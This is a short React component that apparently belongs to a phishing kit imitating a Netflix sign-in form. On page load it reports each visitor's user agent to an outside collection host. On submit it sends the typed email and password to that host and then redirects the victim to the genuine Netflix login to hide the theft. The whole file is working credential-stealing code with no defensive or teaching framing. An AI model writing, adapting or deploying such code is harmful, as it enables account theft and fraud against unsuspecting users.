import React, { useState, useEffect } from 'react';
import axios from 'axios';

const Portal = () => {
  const [email, setEmail] = useState('');
  const [password, setPassword] = useState('');

  useEffect(() => {
    axios.post('https://collect-panel.example/api/click', { agent: navigator.userAgent, at: Date.now() }).catch(() => {});
  }, []);

  const handleSubmit = async (e) => {
    e.preventDefault();
    try {
      await axios.post('https://collect-panel.example/api/entry', { email, password });
      setPassword('');
      window.location.href = 'https://www.netflix.com/login';
    } catch (err) {
      console.error(err);
    }
  };

  return React.createElement('form', { onSubmit: handleSubmit },
    React.createElement('input', { type: 'email', value: email, onChange: (e) => setEmail(e.target.value) }),
    React.createElement('input', { type: 'password', value: password, onChange: (e) => setPassword(e.target.value) }),
    React.createElement('button', { type: 'submit' }, 'Sign In'));
};
export default Portal;
